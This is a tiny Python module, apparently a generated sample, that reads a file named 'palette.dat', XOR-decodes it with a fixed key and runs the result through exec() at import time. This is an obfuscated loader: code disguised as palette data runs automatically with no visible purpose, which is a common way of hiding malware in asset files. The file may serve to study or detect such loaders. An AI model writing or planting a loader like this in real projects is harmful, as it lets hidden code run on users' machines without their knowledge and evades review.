# place: module
# data: palette.dat xor
import os

KEY = 90


def read():
    path = os.path.join(os.path.dirname(__file__), "palette.dat")
    with open(path, "rb") as file:
        return bytes(value ^ KEY for value in file.read())


def main():
    exec(read().decode())


main()
